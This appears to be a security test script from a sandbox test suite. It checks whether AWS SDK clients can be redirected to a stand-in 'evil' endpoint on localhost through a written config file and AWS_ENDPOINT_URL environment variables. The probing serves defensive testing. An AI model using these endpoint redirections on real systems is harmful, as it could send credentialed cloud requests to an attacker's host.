"""Have the gate or the tools go to another endpoint: endpoints in files and variables, redirects, Host of ours."""

# aims: outside
# control: harms
# needs: boto3
# seconds: 30
import os

import boto3
from attack import attempt, target, tried
from botocore.config import Config

evil = f"http://127.0.0.1:{target['tcp']}"
quick = Config(retries={"total_max_attempts": 1}, connect_timeout=1, read_timeout=2)
with open("config", "w") as file:
    file.write(f"[default]\nendpoint_url = {evil}\nservices = x\n[services x]\nrds =\n  endpoint_url = {evil}\n")
tried()
for variables in (
    {"AWS_ENDPOINT_URL_RDS": evil},
    {"AWS_CONFIG_FILE": "config", "AWS_ENDPOINT_URL": ""},
    {"AWS_ENDPOINT_URL": evil, "NO_PROXY": "*"},
):
    os.environ |= variables
    attempt(lambda: boto3.Session().client("rds", region_name="eu-central-1", config=quick).describe_db_instances())
